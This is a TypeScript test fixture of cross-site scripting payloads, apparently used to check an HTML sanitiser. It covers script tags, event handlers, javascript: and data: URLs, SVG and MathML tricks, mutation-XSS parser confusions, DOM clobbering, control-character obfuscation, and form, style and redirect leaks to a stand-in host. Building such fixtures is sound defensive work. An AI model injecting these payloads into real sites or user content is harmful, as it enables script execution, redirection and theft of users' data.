/** Payload that reports its execution through a function that the test adds to every page. */
const RUN = "__executed(1)";

/** An unreachable host; a request to it has left the installation. */
const ELSEWHERE = "https://elsewhere.test";

const ENCODED = [...RUN].map((letter) => `&#${letter.charCodeAt(0)};`).join("");
const DOCUMENT = `<script>parent.${RUN};${RUN}</script>`;
const BROKEN = `<img src=1 onerror=${RUN}>`;

/** Each would execute, restyle the page, navigate or send data elsewhere if it were rendered unsanitised. */
export const HOSTILE_HTML: readonly string[] = [
  // Scripts and embedded documents.
  `<script>${RUN}</script>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<script type=module>import "${ELSEWHERE}/b.js"; ${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="${DOCUMENT}"></iframe>`,
  `<object data="data:text/html,${DOCUMENT}"></object>`,
  `<embed src="javascript:${RUN}">`,
  // Event handlers.
  BROKEN,
  `<IMG SRC=1 OnErRoR = '${RUN}'>`,
  `<img/src=1/onerror=${RUN}>`,
  `<img src=1 onerror="${ENCODED}">`,
  `<img srcset="${ELSEWHERE}/c.png 1x" onerror=${RUN}>`,
  `<body onload=${RUN}><body onpageshow=${RUN}>`,
  `<p onmouseover=${RUN} onclick=${RUN} tabindex=0 onfocus=${RUN} autofocus>A word</p>`,
  `<details open ontoggle=${RUN}><summary>More</summary></details>`,
  `<video onerror=${RUN}><source src=1 onerror=${RUN}></video>`,
  `<audio src="${ELSEWHERE}/d.mp3" autoplay onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}><select autofocus onfocus=${RUN}></select>`,
  `<marquee onstart=${RUN}>A word</marquee>`,
  `<a href="https://forum.test" onpointerover=${RUN} ping="${ELSEWHERE}/e">A link</a>`,
  // URLs.
  `<a href="javascript:${RUN}">A link</a>`,
  `<a href=" &#1;JaVa&#10;ScRiPt&colon;${RUN}">A link</a>`,
  `<a href="data:text/html,${DOCUMENT}" target=_self>A link</a>`,
  `<a href="vbscript:${RUN}">A link</a>`,
  `<area href="javascript:${RUN}" shape=default>`,
  `<img src="${ELSEWHERE}/f.png" alt="A picture"><img src="//elsewhere.test/g.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  // Other namespaces.
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a href="javascript:${RUN}"><text y=20>A link</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></use></svg>`,
  `<svg><foreignObject>${BROKEN}</foreignObject></svg>`,
  `<math href="javascript:${RUN}"><mtext>A link</mtext></math>`,
  // Markup that a second parser reads differently from the first.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></style></svg>`,
  `<svg><style><!--</style></svg>${BROKEN}-->`,
  `<template>${BROKEN}</template><template shadowrootmode=open>${BROKEN}</template>`,
  `<textarea></textarea>${BROKEN}<title></title>${BROKEN}`,
  `<xmp><p title="</xmp><img src=1 onerror=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src=1 onerror=${RUN}>"></noembed>`,
  `<select><template><style></select>${BROKEN}</style></template></select>`,
  `<!--><img src=1 onerror=${RUN}>--><!--!>${BROKEN}<![CDATA[><img src=1 onerror=${RUN}>]]>`,
  `<table><tbody><svg><td><desc><td><title>${BROKEN}</title></td></table>`,
  // Styles and document metadata.
  `<style>@import "${ELSEWHERE}/h.css"; body { background: url(${ELSEWHERE}/i.png) }</style>`,
  `<p style="background: url(${ELSEWHERE}/j.png); position: fixed; inset: 0">A word</p>`,
  `<link rel=stylesheet href="${ELSEWHERE}/k.css"><link rel=prefetch href="${ELSEWHERE}/l">`,
  `<base href="${ELSEWHERE}/"><base target=_self>`,
  `<table background="${ELSEWHERE}/m.png"><tr><td background="${ELSEWHERE}/n.png">A cell</table>`,
  // Forms.
  `<form action="${ELSEWHERE}/o"><input name=password><button>Log in</button></form>`,
  `<form id=outer><form id=inner action="javascript:${RUN}"><button formaction="javascript:${RUN}">Send</button></form></form>`,
  `<isindex action="javascript:${RUN}"><button form=outer formaction="${ELSEWHERE}/p">Send</button>`,
  // Ids and names that shadow those of the page.
  `<form id=root name=document><input name=attributes><input name=parentNode></form>`,
  `<img id=localStorage name=getElementById><a id=foyer><a id=foyer name=session href="cid:x">`,
  `<p id=__proto__ class=toString slot=constructor is=x-element data-x=1 aria-label="Another name">A word</p>`,
  // Control characters inside tag names and attributes.
  `<img src=1 onerror&#0;=${RUN}><scr&#0;ipt>${RUN}</scr&#0;ipt>`,
  `<img \u0001 src=1 \u000Bonerror=${RUN}><\uFEFFscript>${RUN}</\uFEFFscript>`,
  `<a href="java\u00ADscript:${RUN}">\u202Eknil A\u202C</a>&lt;script&gt;${RUN}&lt;/script&gt;`,
];

/** The same payloads; unclosed, they swallow the text behind them. */
export const SWALLOWING_HTML: readonly string[] = [
  `<form><math><mtext></form><form><mglyph><style></math><img src=1 onerror=${RUN}></style></form>`,
  `<noscript><p title="</noscript><img src=1 onerror=${RUN}>"></noscript>`,
];

/** Redirects by itself, which no content security policy blocks, so only the sanitiser can remove it. */
export const LEADING_AWAY = `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/q">`;

/**
 * Closes everything that an earlier text left open, so that the parser starts the next one in a clean state.
 */
export const CLOSING = `'">--></style></script></title></textarea></noscript></noembed></xmp></template></select></svg></math></table></form></a></p>`;

/** For plain texts such as names. */
export const HOSTILE_TEXT = `${BROKEN}"'><script>${RUN}</script>{{${RUN}}}`;

/** For texts that may become a link. */
export const HOSTILE_ADDRESS = `javascript:${RUN}//https://forum.test`;
